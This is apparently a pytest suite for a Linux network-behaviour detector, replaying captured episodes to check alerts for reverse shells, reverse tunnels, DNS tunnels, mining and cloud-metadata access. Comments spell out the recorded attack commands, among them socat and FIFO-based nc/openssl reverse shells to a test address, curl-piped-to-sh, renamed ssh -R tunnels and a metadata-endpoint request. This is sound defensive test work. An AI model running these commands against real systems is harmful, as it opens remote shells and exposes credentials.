"""Detectors on captured episodes (tests/fixtures, recorded with `eptrace run --capture`): no kernel, no root.

Fixtures were captured from the real scenarios in the test network: see each test for what ran.
"""
import dataclasses
from pathlib import Path

import pytest
from support import Collect

from tracer import config as config_module
from tracer.capture import CaptureError, entries, replay
from tracer.outputs import Fanout, KindFilter
from tracer.schema import EcsEncoder

FIXTURES = Path(__file__).parent.parent / "fixtures"
SHORT = config_module.load(FIXTURES / "short_long_flow.toml")   # long_flow_seconds = 5, updates every 1 s


def alerts(capture, config=None):
    sink = Collect()
    replay(FIXTURES / capture, EcsEncoder("replay", "test"), KindFilter(Fanout([sink]), {"alert"}), config=config)
    return sink.docs


def rules(docs):
    return sorted(d["rule"]["name"] for d in docs)


def test_metadata_access_and_raw_socket():
    # python3 in the sandbox: GET http://169.254.169.254/, then socket(AF_INET, SOCK_RAW, ICMP)
    docs = alerts("metadata_and_raw_socket.capture")
    assert rules(docs) == ["cloud_metadata_access", "raw_socket"]
    metadata = next(d for d in docs if d["rule"]["name"] == "cloud_metadata_access")
    assert metadata["destination"]["ip"] == "169.254.169.254" and metadata["network"]["community_id"]


def test_idle_tunnel_from_a_renamed_ssh_stratum_and_dns_tunnel():
    # Stratum login to :3333, one 120-character DNS query, and `sysupdate -N -R 9000:127.0.0.1:8000`
    # (a copy of ssh under another name) left idle for 9 s, with long_flow_seconds = 5.
    docs = alerts("idle_tunnel_stratum_dns.capture", SHORT)
    assert rules(docs) == ["crypto_mining", "dns_tunnel", "reverse_tunnel"]
    tunnel = next(d for d in docs if d["rule"]["name"] == "reverse_tunnel")
    assert "not an SSH client" in tunnel["message"] and tunnel["process"]["name"] == "sysupdate"


def test_the_idle_tunnel_needs_its_duration():
    # With the default long_flow_seconds (600) the 9-second tunnel is not yet a tunnel by behaviour.
    assert "reverse_tunnel" not in rules(alerts("idle_tunnel_stratum_dns.capture"))


def test_reverse_shells_alert_once_each():
    # socat TCP:198.51.100.1:4444 EXEC:'bash -li',pty,stderr,setsid; then a python dup2 + pty.spawn shell
    docs = alerts("reverse_shells.capture")
    assert rules(docs) == ["reverse_shell", "reverse_shell"]
    assert {d["destination"]["port"] for d in docs if "destination" in d} <= {4444, 4445}


def test_benign_work_raises_nothing():
    # a 4 MB curl download, `ssh host true`, a DNS query, a keep-alive HTTP session
    assert alerts("benign.capture", SHORT) == []


@pytest.mark.parametrize("helper", ["nc", "openssl", "nc-pty"])
def test_shell_fed_and_answered_through_a_fifo(helper):
    # rm -f F; mkfifo F; cat F | /bin/sh -i 2>&1 | nc 198.51.100.1 4451 > F   (openssl: sh -i < F 2>&1 |
    # openssl s_client -quiet -connect 198.51.100.1:4452 > F; nc-pty: cat F | script -qfc '/bin/sh -i'
    # /dev/null 2>&1 | nc ...); the test host sent `echo pwned-$((6*7)); exit`
    docs = alerts(f"pipes_fifo_reverse_shell_{helper}.capture")
    assert rules(docs) == ["reverse_shell"]
    message = docs[0]["message"]
    assert helper.split("-")[0] in message and "fifo:[" in message and "`/bin/sh -i`" in message, message
    assert ("pty:[" in message) == (helper == "nc-pty"), message
    assert docs[0]["process"]["args"] == ["/bin/sh", "-i"]
    assert docs[0]["destination"]["ip"] == "198.51.100.1" and docs[0]["network"]["community_id"]


def test_curl_pipe_sh_is_no_reverse_shell():
    # curl -s http://198.51.100.1:8090/install.sh | sh | cat, where the script runs curl again; the server
    # sends the script in two parts 2 s apart, so that curl feeds sh while it runs
    capture = FIXTURES / "pipes_curl_pipe_sh_is_no_reverse_shell.capture"
    assert alerts(capture.name) == []
    # not vacuous: /proc was read while curl held its connection and wrote into the pipe sh reads
    files, fed = {}, False
    for entry in entries(capture):
        if entry[0] == "files" and entry[2]:
            files[entry[1]] = entry[2]
        elif entry[0] == "socks" and any(remote[1] == 8090 and state == "established"
                                         for _t, _local, remote, state in entry[2].values()):
            writes = {ident for _fd, kind, ident, mode in files[entry[1]] if kind == "pipe" and "w" in mode}
            fed |= any(fd == 0 and ident in writes for held in files.values() for fd, _k, ident, _m in held)
    assert fed


def test_ssh_config_with_remote_forward():
    # ssh -F cfg -N backup, where cfg's "Host backup" sets RemoteForward 9000 127.0.0.1:8000; used from outside
    docs = alerts("pipes_ssh_remote_forward_in_a_config_file.capture")
    assert rules(docs) == ["reverse_tunnel"]
    assert "remoteforward 9000 [127.0.0.1]:8000" in docs[0]["message"], docs[0]["message"]


def test_a_file_that_is_no_capture_is_a_clear_error(tmp_path):
    bad = tmp_path / "x.capture"
    bad.write_bytes(b"\x93\xa3abc")
    with pytest.raises(CaptureError, match="not an eptrace capture"):
        replay(bad, EcsEncoder("h", "0"), Fanout([]))


def test_a_used_tunnel_from_a_renamed_ssh_alerts_at_the_relay():
    # `syncd -N -R 9000:127.0.0.1:8000` (a copy of ssh), used once from the test host: with the default
    # long_flow_seconds the duration cannot count, the relayed loopback connection does.
    docs = alerts("relayed_tunnel.capture")
    assert rules(docs) == ["reverse_tunnel"]
    assert "local relay" in docs[0]["message"] and docs[0]["process"]["name"] == "syncd"


# Relays and their look-alikes, captured by tests/kernel/test_detection_relay.py (EPTRACE_RELAY_CAPTURES):
# worker.py connects out to the test host and relays each request it gets to 127.0.0.1:8000 in the sandbox;
# the test host used it twice, 2 s apart. The default long_flow_seconds (600) cannot count.
# paramiko: request_port_forward; ssh_config: OpenSSH with RemoteForward in a -F file (nothing in argv).
@pytest.mark.parametrize("mode, port", [("tcp", 7443), ("tls", 7443), ("ws", 7443), ("udp", 7443), ("paramiko", 2222),
                                        ("ssh_config", 2222)])
def test_a_relay_used_twice_is_a_tunnel_by_its_mirrored_exchanges(mode, port):
    docs = alerts(f"relay_{mode}.capture")
    assert rules(docs) == ["reverse_tunnel"]
    message = docs[0]["message"]
    assert "2 exchanges started by the remote were mirrored" in message and "127.0.0.1:8000" in message, message
    assert docs[0]["destination"] == {"ip": "198.51.100.1", "port": port}


@pytest.mark.parametrize("capture", ["relay_forward_proxy.capture", "relay_download_local.capture",
                                     "relay_git_clone.capture", "relay_server_push.capture"])
def test_relay_look_alikes_raise_nothing(capture):
    # curl x4 through a forward proxy in the sandbox; a slow download beside local HTTP tests in one process;
    # a 6 MB git clone over ssh; a server-push stream with acks for ~10 s (past long_flow_seconds = 5 here)
    assert alerts(capture, SHORT) == []
    assert alerts(capture) == []


def test_one_relayed_exchange_only_adds_to_the_score():
    # With three exchanges needed, the two of the capture score 2 x 35 = 70 with nothing else: alert at the
    # score; with four needed and mirrored exchanges worth 10, nothing.
    strict = config_module.Config()
    three = dataclasses.replace(strict, reverse_tunnel=dataclasses.replace(strict.reverse_tunnel, exchanges_to_alert=3))
    docs = alerts("relay_tcp.capture", three)
    assert rules(docs) == ["reverse_tunnel"] and "looks like a tunnel (score 70)" in docs[0]["message"]
    quiet = dataclasses.replace(strict, reverse_tunnel=dataclasses.replace(
        strict.reverse_tunnel, exchanges_to_alert=4, mirrored_exchange_points=10))
    assert alerts("relay_tcp.capture", quiet) == []


def test_a_record_that_fails_in_the_tracer_is_counted_and_makes_the_record_incomplete(monkeypatch):
    # A bug in a detector must not vanish into the ring buffer's ctypes callback (which would print it and
    # drop the rest of that record's work, an alert among it): it is counted, for the episode too.
    from tracer.detect import commands

    def broken(event, ctx):
        raise RuntimeError("a detector bug")
        yield
    monkeypatch.setattr(commands, "DETECTORS", (broken,) + commands.DETECTORS[1:])
    sink = Collect()
    tracer = replay(FIXTURES / "metadata_and_raw_socket.capture", EcsEncoder("replay", "test"), Fanout([sink]))
    failed = tracer.stats_snapshot()["records_failed"]
    assert failed > 0
    losses = [tracer.episode_losses(cgroup_id) for cgroup_id in tracer.episode_counts]
    assert [loss.get("record_errors") for loss in losses] == [failed]
    assert any(d.get("event", {}).get("action") == "process_started" for d in sink.docs)   # the rest went on


@pytest.mark.parametrize("capture", ["pipes_fifo_reverse_shell_nc.capture", "reverse_shells.capture",
                                     "pipes_curl_pipe_sh_is_no_reverse_shell.capture",   # answers at sweeps
                                     "relay_ssh_config.capture"])
def test_a_daemons_capture_of_one_episode_holds_its_own_entries_and_replays_on_its_own(capture, tmp_path):
    """The daemon's EpisodeCaptures, fed what a tracer writes for this episode interleaved with another
    episode's records and /proc answers (a copy under another cgroup id and other pids): the episode's stream
    leaves the other out and replays to the same documents as the capture made in-process."""
    import struct
    import msgpack
    from tracer.capture import EpisodeCaptures, EpisodeSink
    from tracer.decoding import HEADER, owner_of
    original = list(entries(FIXTURES / capture))
    meta, episode = original[0], next(e for e in original if e[0] == "episode")
    other_cgid, other_pid = episode[3] + 1000, 4_000_000
    stream = []
    hub = EpisodeCaptures()
    assert not hub.active and not hub.recording          # nobody asked: the tracer leaves it out
    hub.add(EpisodeSink(episode[3], episode[2], stream.append, key="client"), meta[1]["clock_offset"], episode)
    assert hub.active
    for entry in original[1:]:
        if entry[0] == "episode":
            continue
        hub.write(*entry)
        if entry[0] == "rec":           # then another episode's record, with the /proc answer it asked for
            other = bytearray(entry[1])
            struct.pack_into("<QI", other, HEADER.size - 32, other_cgid, other_pid)
            assert owner_of(bytes(other)) == (other_cgid, other_pid)
            hub.write("proc", other_pid, {"pid": other_pid, "name": "other"})
            hub.write("rec", bytes(other))
    hub.final_sweep(episode[3], 1)
    path = tmp_path / "episode.capture"
    path.write_bytes(b"".join(stream))
    mine = [msgpack.unpackb(e, raw=False) for e in stream]
    assert {owner_of(e[1])[0] for e in mine if e[0] == "rec"} == {episode[3]}
    assert not [e for e in mine if e[0] in ("proc", "fd", "files", "socks", "ssh") and e[1] == other_pid]
    assert len([e for e in mine if e[0] == "rec"]) == len([e for e in original if e[0] == "rec"])
    answers = ("proc", "fd", "files", "socks", "ssh", "pids", "now")
    assert [e for e in mine if e[0] in answers] == [e for e in original if e[0] in answers]   # all, in order

    def documents(p):
        sink = Collect()
        replay(p, EcsEncoder("replay", "test", run_id="r"), Fanout([sink]))
        return [{k: v for k, v in d.items() if k != "event"} | {"action": d["event"]["action"]} for d in sink.docs
                if d["event"]["kind"] != "metric"]
    assert documents(path) == documents(FIXTURES / capture)
    hub.remove(key="client")
    assert not hub.active
